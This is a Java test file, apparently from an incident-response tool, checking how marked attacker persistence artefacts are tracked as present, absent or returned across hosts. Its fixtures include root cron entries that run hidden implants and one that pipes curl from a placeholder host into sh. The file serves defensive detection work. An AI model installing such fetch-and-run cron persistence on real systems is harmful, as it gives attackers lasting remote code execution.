            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            Optional<Instant> listed = Optional.of(line.now);
            mark(line, first, item);
            line.now = line.now.plus(Duration.ofMinutes(30));
            assertEquals(new NotConfirmed(listed, Why.SILENT, Optional.empty()), state(line));
            heard(line, first);
            assertEquals(new Present(listed.get(), By.READING, Certainty.CERTAIN), state(line));
            Event.LocationRead partial =
                    Specimens.read(item.location(), Optional.empty(), LocationStatus.State.PARTIAL, 77, false);
            line.send(first, partial);
            line.send(first, pass(line, first, line.now));
            assertEquals(new NotConfirmed(listed, Why.PLACE_UNREAD, Optional.of(partial.status())), state(line));
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            line.send(
                    first,
                    new Event.SourceState(line.at(0), "linux.persistence", WatchState.DOWN, ReasonCode.STOPPED, ""));
            assertEquals(Why.STOPPED, ((NotConfirmed) state(line)).why());
            line.send(
                    first,
                    new Event.SourceState(line.at(0), "linux.persistence", WatchState.LIVE, ReasonCode.NONE, ""));
            assertInstanceOf(Present.class, state(line));
            line.now = line.now.plus(Duration.ofHours(25));
            heard(line, first);
            assertEquals(Why.NO_PASS, ((NotConfirmed) state(line)).why());
            line.store.change(s -> s.hosts().state(first, Hosts.State.REVOKED, Specimens.ANALYST));
            assertEquals(Why.NOT_SENDING, ((NotConfirmed) state(line)).why());
        });
    }

    @Test
    void whatWasSeenAbsentIsNotConfirmedWhileItsPlaceIsCovered() throws Exception {
        with(line -> {
            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            mark(line, first, item);
            line.now = line.now.plus(Duration.ofMinutes(30));
            line.send(first, line.seen(Change.REMOVED, item));
            Instant gone = line.now;
            heard(line, first);
            assertEquals(new Absent(gone, false), state(line));
            line.now = line.now.plus(Duration.ofMinutes(30));
            line.send(first, covered(item.location()));
            NotConfirmed unknown = (NotConfirmed) state(line);
            assertEquals(Why.COVERED, unknown.why());
            assertEquals(Optional.of(gone), unknown.since());
            assertEquals(Optional.empty(), unknown.lastPresent(), "nobody saw it there since");
            line.send(first, line.listed(item.location()));
            assertEquals(new Absent(gone, false), state(line));
        });
    }

    /** The double has the agent's state and nothing of what the attacker left on the machine. */
    @Test
    void whatAnotherMachineDoesNotHaveIsNotAbsentFromTheFirst() throws Exception {
        with(line -> {
            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            Item other = Line.cron("bak", "* * * * * root /opt/.x/b", Item.Shipped.UNOWNED);
            line.send(
                    first,
                    line.seen(Change.PRESENT, item),
                    line.seen(Change.PRESENT, other),
                    line.listed(item.location()));
            Instant listed = line.now;
            mark(line, first, item);
            line.now = line.now.plus(Duration.ofMinutes(30));
            line.notice(first, Notices.MOVED, Map.of("from", "a", "to", "b", "addresses", "192.0.2.9"));
            line.send(first, line.seen(Change.REMOVED, item));
            heard(line, first);
            NotConfirmed unknown = (NotConfirmed) state(line);
            assertEquals(Why.OTHER_MACHINE, unknown.why());
            assertEquals(Optional.of(listed), unknown.since());
            line.now = line.now.plus(Duration.ofMinutes(30));
            line.notice(first, Notices.MOVED, Map.of("from", "b", "to", "a", "addresses", "192.0.2.1"));
            line.now = line.now.plus(Duration.ofMinutes(30));
            assertEquals(Why.OTHER_MACHINE, ((NotConfirmed) state(line)).why(), "the first was not read since");
            line.send(first, pass(line, first, line.now.minusSeconds(60)));
            assertInstanceOf(Absent.class, state(line));
            line.notice(first, Notices.MOVED, Map.of("from", "a", "to", "c", "addresses", "192.0.2.9"));
            line.send(first, line.seen(Change.PRESENT, item));
            line.now = line.now.plus(Duration.ofMinutes(1));
            line.send(first, line.seen(Change.REMOVED, item));
            assertEquals(Why.OTHER_MACHINE, ((NotConfirmed) state(line)).why());
            line.store.change(session -> assertTrue(HostDecision.READMIT.on(
                    session, session.hosts().find(first).orElseThrow(), line.now, Specimens.ANALYST)));
            assertInstanceOf(Absent.class, state(line), "a person accepted it");
        });
    }

    private static Event covered(String location) {
        Event.LocationRead read = Specimens.read(location, Optional.empty(), LocationStatus.State.PARTIAL, 77, false);
        LocationStatus status = read.status();
        return new Event.LocationRead(
                read.at(),
                read.source(),
                new LocationStatus(
                        location,
                        status.account(),
                        status.state(),
                        ReasonCode.COVERED,
                        "",
                        status.reader(),
                        status.items(),
                        status.bytes(),
                        status.startedWallMicros(),
                        status.durationMicros(),
                        status.trigger(),
                        status.catalogueVersion()),
                read.reading(),
                read.completeListing(),
                read.digest());
    }

    @Test
    void whatStandsInItsPlaceIsNotItAndWhereItIsKnownAgainItIsALineOfItsOwn() throws Exception {
        with(line -> {
            line.send(first, line.seen(Change.PRESENT, BACKDOOR), line.listed(BACKDOOR.location()));
            mark(line, first, BACKDOOR);
            line.send(second, line.listed(BACKDOOR.location()));
            line.now = line.now.plus(Duration.ofMinutes(5));
            line.send(second, line.seen(Change.ADDED, BACKDOOR));
            line.send(
                    first,
                    line.seen(
                            Change.CHANGED,
                            service("WinUpd", "C:\\Program Files\\Mairie\\agenda.exe", "", File.unsigned("agenda"))));
            heard(line, first);
            heard(line, second);
            assertEquals(
                    List.of("pc-2 false Present", "pc-1 true Absent"),
                    artefacts(line).stream()
                            .map(each -> each.hostname() + " " + each.marked() + " "
                                    + each.state().getClass().getSimpleName())
                            .toList());
            assertEquals(new Absent(line.now, true), artefacts(line).getLast().state());
            for (String person : List.of("anne", "bruno")) {
                assertEquals(2, artefacts(line).size(), "one person alone takes no line away");
                line.store.change(s -> s.tombstones()
                        .nature(ALL, returns(line).getFirst().id(), Nature.AUTHORISED, new Author(person, "test")));
            }
            assertEquals(1, artefacts(line).size());
        });
    }

    private static Item cronLine(String value, String target, String program, long modified) {
        return new Item(
                "linux.cron.d",
                List.of("T1053.003"),
                "linux",
                Optional.empty(),
                "upd",
                value,
                "/etc/cron.d/upd",
                target,
                program.isEmpty() ? Optional.empty() : Optional.of(sha(program)),
                "",
                Item.Signature.NOT_CHECKED,
                "",
                Item.Shipped.UNOWNED,
                true,
                modified == 0 ? ItemTimes.NONE : ItemTimes.modified(modified),
                List.of(),
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                Set.of());
    }

    @Test
    void whatIsMarkedIsPresentInWhicheverFormItComesBackAndAbsentWhereAnotherThingStands() throws Exception {
        with(line -> {
            String implant = "/root/.configrc7/a/upd";
            String text = "5 6 * * 0 root " + implant + " >/dev/null 2>&1";
            Item marked = cronLine(text, implant, "implant", 1_000_000);
            line.send(first, line.seen(Change.PRESENT, marked), line.listed(marked.location()));
            mark(line, first, marked);
            heard(line, first);
            record Way(String what, Item item, Optional<Certainty> certainty) {}
            List<Way> ways = List.of(
                    new Way("word for word", marked, Optional.of(Certainty.CERTAIN)),
                    new Way(
                            "with another time",
                            cronLine(text, implant, "implant", 9_000_000),
                            Optional.of(Certainty.CERTAIN)),
                    new Way(
                            "its program is deleted",
                            cronLine(text, implant, "", 1_000_000),
                            Optional.of(Certainty.CERTAIN)),
                    new Way(
                            "another build of its program",
                            cronLine(text, implant, "implant 2", 1_000_000),
                            Optional.of(Certainty.LIKELY)),
                    new Way(
                            "another hour and option",
                            cronLine("1 2 * * * root " + implant + " -q", implant, "implant 2", 1_000_000),
                            Optional.of(Certainty.LIKELY)),
                    new Way(
                            "the town hall's backup",
                            cronLine(
                                    "30 2 * * * root /usr/bin/rsync -a /srv /mnt/sauvegarde",
                                    "/usr/bin/rsync",
                                    "rsync",
                                    0),
                            Optional.empty()));
            for (Way way : ways) {
                Item there = line.store
                        .read(s -> s.inventories().find(first, marked.key()))
                        .orElseThrow()
                        .item();
                line.now = line.now.plus(Duration.ofMinutes(1));
                line.send(first, line.seen(Change.REMOVED, there));
                assertEquals(new Absent(line.now, false), state(line), way.what());
                line.now = line.now.plus(Duration.ofMinutes(1));
                line.send(first, line.seen(Change.ADDED, way.item()), line.listed(marked.location()));
                heard(line, first);
                assertEquals(
                        way.certainty()
                                .<ArtefactPresence>map(sure -> new Present(line.now, By.READING, sure))
                                .orElseGet(() -> new Absent(line.now, true)),
                        state(line),
                        way.what());
            }
            // On another host a variant is known again: it stands there, and is no other thing in its place.
            Item variant = cronLine("1 2 * * * root " + implant + " -q", implant, "implant 3", 0);
            line.send(second, line.seen(Change.ADDED, variant), line.listed(variant.location()));
            heard(line, second);
            assertEquals("vigie-suspected-return", returns(line).getLast().rule());
            assertEquals(
                    List.of("pc-2 " + new Present(line.now, By.READING, Certainty.LIKELY)),
                    artefacts(line).stream()
                            .filter(each -> !each.marked())
                            .map(each -> each.hostname() + " " + each.state())
                            .toList());
        });
    }

    /** What two persons say of what stands in its place counts until something else stands there. */
    @Test
    void whatTwoPersonsCallAnothersInItsPlaceIsNotIt() throws Exception {
        with(line -> {
            String implant = "/opt/upd/a/upd";
            Item marked = cronLine("5 6 * * 0 root " + implant + " --relay", implant, "implant", 0);
            line.send(first, line.seen(Change.PRESENT, marked), line.listed(marked.location()));
            mark(line, first, marked);
            line.now = line.now.plus(Duration.ofMinutes(1));
            Item variant = cronLine("1 2 * * * root " + implant + " -q", implant, "rewritten", 0);
            line.send(first, line.seen(Change.REMOVED, marked), line.seen(Change.ADDED, variant));
            heard(line, first);
            Instant since = line.now;
            line.now = line.now.plus(Duration.ofMinutes(1));
            String alert = returns(line).getLast().id();
            for (String person : List.of("anne", "bruno")) {
                assertInstanceOf(Present.class, state(line));
                line.store.change(s -> s.tombstones().nature(ALL, alert, Nature.UNRELATED, new Author(person, "test")));
            }
            assertEquals(new Absent(since, true), state(line));
            line.now = line.now.plus(Duration.ofMinutes(1));
            line.send(first, line.seen(Change.CHANGED, cronLine("1 3 * * * root " + implant + " -q", implant, "b", 0)));
            assertInstanceOf(Present.class, state(line));
        });
    }

    /** An item that was always there and only looks like what is marked: nothing changes that its agent could tell. */
    @Test
    void aTwinThatIsLeftInPlaceIsToldAsASuspectedReturnOnce() throws Exception {
        with(line -> {
            evicted(line, Optional.empty());
            String implant = "/root/.configrc7/a/upd";
            Item marked = cronLine("5 6 * * 0 root " + implant + " --relay", implant, "implant", 0);
            marked(line, marked);
            Item twin = cronLine("1 2 * * * root " + implant + " -q", implant, "implant 3", 0);
            line.send(second, line.seen(Change.ADDED, twin), line.listed(twin.location()));
            assertEquals("likely", seenAgain(line).getFirst().alert().evidence().get("certainty"));
            assertEquals(List.of(), told(line));
            Instant end = line.now.plus(Duration.ofHours(1));
            evicted(line, end);
            line.now = end.plus(Duration.ofHours(1));
            line.send(first, line.seen(Change.REMOVED, marked));
            line.pipeline.tick(line.now);
            assertEquals(List.of(), told(line), "of a host that was not read since, nothing is said");
            line.send(second, pass(line, second, end.plus(Duration.ofMinutes(10))));
            for (int twice = 0; twice < 2; twice++) {
                line.now = line.now.plus(Duration.ofMinutes(10));
                line.pipeline.tick(line.now);
            }
            assertEquals(List.of("vigie-suspected-return"), rules(line));
            assertEquals("pc-2", returns(line).getFirst().hostname());
            assertEquals(1, returns(line).getFirst().count());
        });
    }

    /** A drill by others: what was left ran, and was told as a return first and as not removed with the next scan. */
    @Test
    void whatRunsOfAnArtefactThatStillStandsThereIsNoReturn() throws Exception {
        with(line -> {
            Item item =
                    Line.cron("upd", "* * * * * root curl -s http://tervaquilo.example/a | sh", Item.Shipped.UNOWNED);
            for (AgentId host : List.of(first, second)) {
                line.send(host, line.seen(Change.PRESENT, item), line.listed(item.location()));
            }
            mark(line, first, item);
            Instant end = line.now.plus(Duration.ofHours(2));
            evicted(line, end);
            line.now = end.plus(Duration.ofMinutes(1));
            Event ran = started(line, "/usr/bin/curl", "curl -s http://tervaquilo.example/a", Optional.empty());
            line.send(first, ran);
            assertEquals(List.of("vigie-not-removed"), rules(line));
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            line.pipeline.tick(line.now.plus(Duration.ofMinutes(10)));
            assertEquals(List.of("vigie-not-removed"), rules(line), "one artefact, one alert");
            // on another host nothing of it was marked: there it is one
            line.send(second, ran);
            String here = "address rare-name sister-host";
            assertEquals(List.of("not-removed pc-1 ", "suspected-return pc-2 " + here), told(line));
            // what is gone and runs again came back
            line.now = line.now.plus(Duration.ofHours(1));
            line.send(first, line.seen(Change.REMOVED, item));
            line.now = line.now.plus(Duration.ofHours(1));
            line.send(first, ran);
            assertEquals(
                    List.of("not-removed pc-1 ", "suspected-return pc-2 " + here, "suspected-return pc-1 " + here),
                    told(line));
        });
    }

    /** That it was not removed is told of what was there when it was to be gone: what came after that is a return, once. */
    @Test
    void whatWasRemovedAndComesBackToItsHostIsToldOnce() throws Exception {
        with(line -> {
            line.send(first, line.seen(Change.PRESENT, BACKDOOR), line.listed(BACKDOOR.location()));
            Tombstone mark = mark(line, first, BACKDOOR);
            Instant end = line.now.plus(Duration.ofHours(2));
            evicted(line, end);
            line.send(first, line.seen(Change.REMOVED, BACKDOOR));
            line.now = end.plus(Duration.ofHours(1));
            line.send(first, line.seen(Change.ADDED, BACKDOOR));
            for (int hours = 0; hours < 30; hours++) {
                line.now = line.now.plus(Duration.ofHours(1));
                line.send(first, line.seen(Change.PRESENT, BACKDOOR), line.listed(BACKDOOR.location()));
                line.pipeline.tick(line.now);
            }
            assertEquals(List.of("vigie-return"), rules(line));
            // It is to be removed by another day, and is not.
            line.store.change(s -> s.tombstones()
                    .line(ALL, mark.id(), true, Optional.of(line.now.plus(Duration.ofHours(1))), Specimens.ANALYST));
            line.now = line.now.plus(Duration.ofHours(2));
            line.send(first, line.seen(Change.PRESENT, BACKDOOR), line.listed(BACKDOOR.location()));
            line.pipeline.tick(line.now);
            assertEquals(List.of("vigie-return", "vigie-not-removed"), rules(line));
        });
    }

    /** Eighth drill: a thing seen absent and brought back was a return by its own mark, and not removed by one that is like it. */
    @Test
    void whatComesBackOfTwoMarksIsToldOnce() throws Exception {
        with(line -> {
            evicted(line, Optional.empty());
            String implant = "/root/.configrc7/a/upd";
            Item marked = cronLine("5 6 * * 0 root " + implant + " --relay", implant, "implant", 0);
            marked(line, marked);
            Item twin = cronLine("1 2 * * * root " + implant + " -q", implant, "implant 3", 0);
            line.send(second, line.seen(Change.ADDED, twin), line.listed(twin.location()));
            assertEquals("likely", seenAgain(line).getFirst().alert().evidence().get("certainty"));
            mark(line, second, twin);
            Instant end = line.now.plus(Duration.ofHours(1));
            evicted(line, end);
            line.send(first, line.seen(Change.REMOVED, marked));
            line.send(second, line.seen(Change.REMOVED, twin));
            line.now = end.plus(Duration.ofHours(1));
            line.send(second, line.seen(Change.ADDED, twin));
            assertEquals(List.of("vigie-return"), rules(line));
            for (int twice = 0; twice < 2; twice++) {
                line.now = line.now.plus(Duration.ofHours(1));
                line.send(second, line.seen(Change.PRESENT, twin), line.listed(twin.location()));
                line.pipeline.tick(line.now);
            }
            assertEquals(List.of("vigie-return"), rules(line));
        });
    }

    private static List<String> rules(Line line) {
        return returns(line).stream().map(Alert::rule).toList();
    }

    private void evicted(Line line, Instant end) {
        evicted(line, line.now, end);
    }

    private void evicted(Line line, Instant start, Instant end) {
        evicted(line, Optional.of(new Interval(start, Optional.of(end))));
    }

    private void evicted(Line line, Optional<Interval> interval) {
        line.store.change(s -> s.incidents().eviction(ALL, incident, Optional.empty(), interval, Specimens.ANALYST));
    }

    private List<Recurrence> seenAgain(Line line) {
        return line.store.read(s -> s.tombstones().recurrences(ALL, incident));
    }

    /** What of the attack is found on other machines while it lasts is no recurrence, and nobody has to say what it is. */
    @Test
    void whatIsSeenBeforeTheEvictionEndedIsOfTheSameAttack() throws Exception {
        with(line -> {
            evicted(line, Optional.empty());
            Tombstone mark = marked(line, BACKDOOR);
            line.send(second, line.seen(Change.ADDED, BACKDOOR));
            Instant end = line.now.plus(Duration.ofHours(2));
            evicted(line, end);
            line.now = line.now.plus(Duration.ofHours(1));
            line.send(second, started(line, "C:\\Users\\a\\z.exe", "z.exe", Optional.of(sha("backdoor"))));
            assertEquals(List.of(), told(line));
            assertEquals(
                    List.of("HIGH same-attack", "HIGH same-attack"),
                    seenAgain(line).stream()
                            .map(each ->
                                    each.alert().severity() + " " + each.word().orElse("?"))
                            .toList());
            assertEquals(0L, line.store.<Long>read(s -> s.tombstones().undecided(ALL, incident)));
            assertEquals(
                    List.of("pc-1 true", "pc-2 false"),
                    artefacts(line).stream()
                            .map(each -> each.hostname() + " " + each.marked())
                            .sorted()
                            .toList());
            // What was left is told on each machine, although it is marked on one.
            line.now = end.plus(Duration.ofHours(1));
            for (AgentId host : List.of(first, second)) {
                line.send(host, line.seen(Change.PRESENT, BACKDOOR), line.listed(BACKDOOR.location()));
            }
            for (int twice = 0; twice < 2; twice++) {
                line.now = line.now.plus(Duration.ofMinutes(10));
                line.pipeline.tick(line.now);
            }
            assertEquals(List.of("not-removed pc-1 ", "not-removed pc-2 "), told(line));
            assertEquals(mark.id(), returns(line).getLast().evidence().get(Tombstones.TOMBSTONE));
            line.send(second, line.seen(Change.REMOVED, BACKDOOR), line.seen(Change.ADDED, BACKDOOR));
            assertEquals("vigie-return", returns(line).getLast().rule(), "what comes back is a recurrence");
        });
    }

    /** The dates are an analyst's, and may be set later: what is after them counts. */
    @Test
    void whatWasSeenAfterTheEndAsItIsDatedLaterCountsAsAPossibleRecurrence() throws Exception {
        with(line -> {
            evicted(line, Optional.empty());
            marked(line, BACKDOOR);
            Instant before = line.now;
            line.now = line.now.plus(Duration.ofHours(1));
            line.send(second, line.seen(Change.ADDED, BACKDOOR));
            assertFalse(seenAgain(line).getFirst().isUndecided());
            evicted(line, before, before.plusSeconds(60));
            assertTrue(seenAgain(line).getFirst().isUndecided());
            assertEquals(1L, line.store.<Long>read(s -> s.tombstones().undecided(ALL, incident)));
            String alert = seenAgain(line).getFirst().alert().id();
            line.store.change(s -> s.tombstones().nature(ALL, alert, Nature.RETURNED, Specimens.ANALYST));
            evicted(line, line.now, line.now.plusSeconds(60));
            assertEquals(
                    List.of(Optional.of("returned")),
                    seenAgain(line).stream().map(Recurrence::word).toList());
        });
    }

    @Test
    void whatIsSweptIsFoundOnceWithItsPlaceAgainstTheEviction() throws Exception {
        with(line -> {
            line.send(second, line.seen(Change.PRESENT, BACKDOOR));
            line.now = line.now.plus(Duration.ofDays(1));
            Tombstone tombstone = marked(line, BACKDOOR);
            line.store.change(s -> s.incidents()
                    .eviction(
                            ALL,
                            incident,
                            Optional.empty(),
                            Optional.of(new Interval(line.now.minusSeconds(60), Optional.of(line.now))),
                            Specimens.ANALYST));
            Cards cards = new Cards(ShippedRules.load().cards());
            Sweep.Result result = new Sweep(line.store, line.now)
                    .of(
                            List.of(tombstone),
                            List.of(BREST, Line.QUIMPER),
                            List.of(tombstone),
                            Evictions.of(line.store.read(s -> s.incidents().evictions(ALL, incident))),
                            cards);
            assertEquals(
                    List.of(second),
                    result.found().stream().map(each -> each.host().id()).toList());
            assertTrue(result.found().getFirst().sure());
            for (int twice = 0; twice < 2; twice++) {
                result.found().forEach(found -> line.store.change(s -> Raising.raise(s, found.finding())));
            }
            assertEquals("before", returns(line).getFirst().evidence().get("eviction"));
            assertEquals(1, returns(line).size());
        });
    }

    @Test
    void theNatureThatIsSaidIsWhatAConclusionRestsOn() throws Exception {
        with(line -> {
            line.store.change(s -> s.incidents()
                    .eviction(
                            ALL,
                            incident,
                            Optional.empty(),
                            Optional.of(
                                    new Interval(line.now.minusSeconds(60), Optional.of(line.now.minusSeconds(30)))),
                            Specimens.ANALYST));
            marked(line, BACKDOOR);
            line.send(second, line.seen(Change.ADDED, BACKDOOR));
            String alert = returns(line).getFirst().id();
            assertEquals(List.of(Optional.empty()), natures(line));
            for (Nature nature : Nature.values()) {
                line.store.change(s -> s.tombstones().nature(ALL, alert, nature, Specimens.ANALYST));
                assertEquals(
                        List.of(Optional.of(nature.name())),
                        natures(line),
                        "the conclusion knows every nature by its name");
            }
        });
    }

    private List<Optional<String>> natures(Line line) {
        return line
                .store
                .read(s -> Facts.of(s, ALL, s.incidents().find(ALL, incident).orElseThrow(), line.now.plusSeconds(60)))
                .recurrences()
                .stream()
                .map(each -> each.nature().map(said -> said.nature().name()))
                .toList();
    }

    @Test
    void aNatureIsSaidOfARecurrenceAndOfNothingElse() throws Exception {
        with(line -> {
            marked(line, BACKDOOR);
            line.send(second, line.seen(Change.ADDED, BACKDOOR));
            String alert = returns(line).getFirst().id();
            Scope quimper = new Scope.Communes(Set.of(Line.QUIMPER));
            Scope brest = new Scope.Communes(Set.of(BREST));
            assertFalse(line.store.<Boolean>write(
                    s -> s.tombstones().nature(brest, alert, Nature.RESTORED, Specimens.ANALYST)));
            for (Nature nature : List.of(Nature.RESTORED, Nature.RETURNED)) {
                assertTrue(line.store.<Boolean>write(
                        s -> s.tombstones().nature(quimper, alert, nature, Specimens.ANALYST)));
            }
            var recurrences = line.store.read(s -> s.tombstones().recurrences(quimper, incident));
            assertEquals(
                    List.of(Nature.RETURNED),
                    recurrences.stream()
                            .map(each -> each.nature().orElseThrow().nature())
                            .toList());
            assertEquals(
                    2, line.store.read(s -> s.tombstones().natures(ALL, alert)).size());
            assertEquals(List.of(), line.store.read(s -> s.tombstones().recurrences(brest, incident)));
            assertEquals(
                    List.of("recurrence-restored", "recurrence-returned"),
                    line.store.read(s -> s.audit().about(alert)).stream()
                            .map(each -> each.action())
                            .toList());
            String other = line.alerts().stream()
                    .filter(each -> !Tombstones.RULES.contains(each.rule()))
                    .findFirst()
                    .map(Alert::id)
                    .orElse("none");
            assertFalse(line.store.<Boolean>write(
                    s -> s.tombstones().nature(ALL, other, Nature.RESTORED, Specimens.ANALYST)));
        });
    }

    /** A script's words are not told, but for those of the watchlist, as digests: here that of {@code printf upd7734x | sha256sum}. */
    @Test
    void aMarkedWordThatAnAgentFindsInAScriptIsSuspectedThereAndNotWhereItIsMarked() throws Exception {
        with(line -> {
            Item told = service("A", "C:\\a\\run.exe upd7734x", "C:\\a\\run.exe", File.NONE);
            marked(line, told);
            Item script = listed(service("B", "C:\\b\\x.cmd", "C:\\b\\x.cmd", File.NONE), "5e174c3ab213");
            line.send(second, hit(line, script));
            line.send(first, hit(line, listed(told, "5e174c3ab213")));
            line.send(
                    second, hit(line, listed(service("C", "C:\\c\\y.cmd", "C:\\c\\y.cmd", File.NONE), "7a7c5f7debee")));
            line.send(outside, hit(line, script));
            assertEquals(List.of("suspected-return pc-2 rare-word"), told(line));
            assertEquals("upd7734x", returns(line).getFirst().evidence().get("known_parts"));
        });
    }

    private static Event hit(Line line, Item item) {
        return new Event.WatchlistCheck(
                line.at(0), "agent", sha("list"), new Event.Checked.ListedItem(WatchlistEntry.of(new byte[16]), item));
    }

    private static Item listed(Item i, String digest) {
        return new Item(
                i.location(),
                i.techniques(),
                i.os(),
                i.account(),
                i.name(),
                i.value(),
                i.source(),
                i.target(),
                i.sha256(),
                i.signer(),
                i.signature(),
                i.packageName(),
                i.shipped(),
                i.enabled(),
                i.times(),
                i.resolved(),
                i.replaceableBy(),
                i.authentihash(),
                i.imphash(),
                i.tlsh(),
                i.originalName(),
                i.pdb(),
                i.build(),
                List.of("word=" + digest),
                i.traits());
    }
}
